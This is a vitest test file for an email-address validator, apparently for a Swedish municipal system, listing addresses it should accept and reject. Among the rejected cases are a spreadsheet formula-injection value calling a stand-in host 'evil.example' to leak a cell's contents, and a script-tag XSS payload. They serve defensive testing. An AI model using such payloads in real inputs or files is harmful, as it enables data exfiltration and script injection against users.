import { describe, expect, it } from 'vitest';
import { isValidEmail } from '../../src/email-address';

const long = (n: number) => 'a'.repeat(n);

describe('e-mail address validation', () => {
  it.each([
    'anna.berg@skola.kommun.se',
    'Anna.Berg@Skola.Kommun.SE',
    'anna+teams@kommun.se',
    'o\'brien@kommun.se',
    "!#$%&'*+/=?^_`{|}~-@kommun.se",
    '201307070308@elev.kommun.se',
    'åsa.öberg@kommun.se',
    'elev@skola-norr.kommun.se',
    'x@a.b.c.d.se',
    'x@kommun.xn--p1ai',
    `${long(64)}@kommun.se`,
    `a@${long(63)}.se`,
    `${long(64)}@${long(63)}.${long(63)}.${long(58)}.se`, // 254
  ])('accepts %s', (address) => {
    expect(isValidEmail(address)).toBe(true);
  });

  it.each([
    ['=WEBSERVICE("https://evil.example/?"&A1)@x.se', 'parentheses and quotes'],
    ['<script>alert(1)</script>@x.se', 'angle brackets'],
    ['"anna berg"@x.se', 'a quoted local part'],
    ['anna berg@x.se', 'a space'],
    ['anna@x .se', 'a space in the domain'],
    ['anna(comment)@x.se', 'a comment'],
    ['anna,berg@x.se', 'a comma'],
    ['anna;berg@x.se', 'a semicolon'],
    ['anna:berg@x.se', 'a colon'],
    ['anna\\berg@x.se', 'a backslash'],
    ['anna[1]@x.se', 'brackets'],
    ['anna\u001b[31m@x.se', 'an escape sequence'],
    ['anna\r\n@x.se', 'CR LF'],
    ['anna\u202e@x.se', 'a bidi override'],
    ['anna\u0000@x.se', 'NUL'],
    ['.anna@x.se', 'a leading dot'],
    ['anna.@x.se', 'a trailing dot'],
    ['an..na@x.se', 'a double dot'],
    ['@x.se', 'no local part'],
    ['anna@', 'no domain'],
    ['anna', 'no @'],
    ['anna@@x.se', 'two @'],
    ['anna@b@x.se', 'an @ in the local part'],
    ['anna@localhost', 'a domain without a dot'],
    ['anna@x.', 'an empty last label'],
    ['anna@.x.se', 'an empty first label'],
    ['anna@x..se', 'an empty label'],
    ['anna@-x.se', 'a label starting with a hyphen'],
    ['anna@x-.se', 'a label ending with a hyphen'],
    ['anna@x_y.se', 'an underscore in the domain'],
    ['anna@192.168.0.1', 'an all-digit top-level label'],
    ['anna@[192.168.0.1]', 'an IP literal'],
    [`${long(65)}@kommun.se`, 'a local part over 64 bytes'],
    [`a@${long(64)}.se`, 'a label over 63 bytes'],
    [`${long(64)}@${long(63)}.${long(63)}.${long(59)}.se`, 'over 254 bytes'],
    ['nora.fel(at)demo', 'no @ at all'],
  ])('refuses %s (%s)', (address) => {
    expect(isValidEmail(address)).toBe(false);
  });
});
